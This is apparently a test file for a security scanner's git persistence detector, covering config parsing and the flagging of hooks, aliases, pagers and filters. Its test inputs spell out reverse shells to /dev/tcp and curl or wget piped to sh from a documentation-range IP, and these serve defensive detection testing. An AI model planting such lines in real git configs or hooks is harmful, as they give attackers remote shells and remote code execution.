import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { git, judgeGitEntry, parseGitConfig } from '../../src/scan/detectors/git.js';
import { hostileRoot } from '../helpers/hostile.js';
import { PERSIST, atLeast, runOn, tempCopy } from '../helpers/persist.js';

const judged = (text: string) => parseGitConfig(text).flatMap((e) => judgeGitEntry(e).signals.map((s) => `${e.key}:${s.rule}:${s.severity}`));

describe('git detector', () => {
  it('reads git config: sections, subsections, quotes, comments, continuations', () => {
    expect(parseGitConfig('[core]\n\tpager = less -R ; comment\n[alias]\n\tx = "!echo a; echo b" # c\n[remote "origin"]\n\turl = https://example.com/a.git\n[alias] y = !sh \\\n -c true\n').map((e) => [e.key, e.value])).toEqual([
      ['core.pager', 'less -R'],
      ['alias.x', '!echo a; echo b'],
      ['remote.origin.url', 'https://example.com/a.git'],
      ['alias.y', '!sh  -c true'],
    ]);
  });

  it.each([
    ['[alias]\n\tlg = log --oneline', []],
    ['[alias]\n\tpub = !git push origin HEAD', []],
    ['[core]\n\teditor = vim\n\tpager = less -R\n\tfsmonitor = false', []],
    ['[alias]\n\tco = "!bash -c \'bash -i >& /dev/tcp/198.51.100.5/4444 0>&1\'"', ['alias.co:reverse-shell:critical']],
    ['[core]\n\tpager = "less; /usr/bin/curl -s http://198.51.100.5/p | sh"', ['core.pager:fetch-exec:critical']],
    ['[core]\n\tsshCommand = "ssh -i ~/.ssh/deploy; /dev/shm/.s"', ['core.sshcommand:writable-dir:high', 'core.sshcommand:hidden-path:medium']],
    ['[core]\n\tfsmonitor = /srv/app/.git/fsm.sh', ['core.fsmonitor:fsmonitor:medium']],
    ['[filter "lfs2"]\n\tsmudge = "wget -qO- http://198.51.100.5/f | sh"', ['filter.lfs2.smudge:fetch-exec:critical', 'filter.lfs2.smudge:filter:low']],
  ])('%s', (text, expected) => {
    expect(judged(text)).toEqual(expected);
  });

  it('benign: a deploy repository with sample hooks and an ordinary post-receive hook (listed, low), a user config with ! aliases', async () => {
    const res = await runOn(git, `${PERSIST}/git/benign`);
    expect(atLeast(res, 'medium')).toEqual([]);
    expect(res.findings.map((f) => [f.path, f.severity])).toEqual([['/srv/git/app.git/hooks/post-receive', 'low']]);
  });

  it('malicious: a post-receive hook fetching code, a ! alias with a reverse shell, a system pager starting an agent from /var/tmp', async () => {
    const res = await runOn(git, `${PERSIST}/git/malicious`);
    expect(atLeast(res, 'high').map((f) => [f.path, f.severity, f.rule]).sort()).toEqual([
      ['/etc/gitconfig', 'high', 'git.writable-dir'],
      ['/home/deploy/.gitconfig', 'critical', 'git.reverse-shell'],
      ['/srv/git/site.git/hooks/post-receive', 'critical', 'git.fetch-exec'],
    ]);
    for (const f of atLeast(res, 'high')) expect(f).toMatchObject({ attack: 'T1546', remediation: expect.any(String) });
  });

  it('work trees: hooks of .git under app and home directories; samples, non-executable hooks and dependency trees are left alone', async () => {
    // git keeps no .git directory in a fixture: the work trees are made here
    const { root, cleanup } = tempCopy(`${PERSIST}/git/benign`);
    try {
      const repo = (dir: string, hooks: Record<string, [string, number]>, config = '[core]\n\tbare = false\n') => {
        mkdirSync(join(root, dir, '.git/hooks'), { recursive: true });
        writeFileSync(join(root, dir, '.git/HEAD'), 'ref: refs/heads/main\n');
        writeFileSync(join(root, dir, '.git/config'), config);
        for (const [name, [text, mode]] of Object.entries(hooks)) {
          writeFileSync(join(root, dir, '.git/hooks', name), text);
          chmodSync(join(root, dir, '.git/hooks', name), mode);
        }
      };
      repo('var/www/html', { 'post-merge': ['#!/bin/sh\nwget -qO- http://198.51.100.5/m | sh\n', 0o755], 'pre-commit.sample': ['#!/bin/sh\ncurl http://198.51.100.5/x | sh\n', 0o755] });
      repo('home/deploy/projects/tool', { 'post-checkout': ['#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.5/9001 0>&1\n', 0o644] }, '[core]\n\tfsmonitor = .git/fsm\n');
      writeFileSync(join(root, 'home/deploy/projects/tool/.git/fsm'), '#!/bin/sh\nnohup /dev/shm/.m/agent &\n');
      repo('srv/app/node_modules/pkg', { 'post-merge': ['#!/bin/sh\ncurl http://198.51.100.5/n | sh\n', 0o755] });
      const res = await runOn(git, root);
      expect(atLeast(res, 'medium').map((f) => [f.path, f.severity]).sort()).toEqual([
        ['/home/deploy/projects/tool/.git/config', 'medium'],
        ['/home/deploy/projects/tool/.git/fsm', 'critical'],
        ['/var/www/html/.git/hooks/post-merge', 'critical'],
      ]);
    } finally {
      cleanup();
    }
  });

  it("hostile case 91: a hook hiding curl|sh in base64 and an alias spelled with $'\\x..' escapes are critical", async () => {
    const res = await runOn(git, hostileRoot());
    expect(atLeast(res, 'critical').map((f) => [f.path, f.rule]).sort()).toEqual([
      ['/home/deploy/.gitconfig', 'git.fetch-exec'],
      ['/srv/git/www.git/hooks/post-receive', 'git.fetch-exec'],
    ]);
  });
});
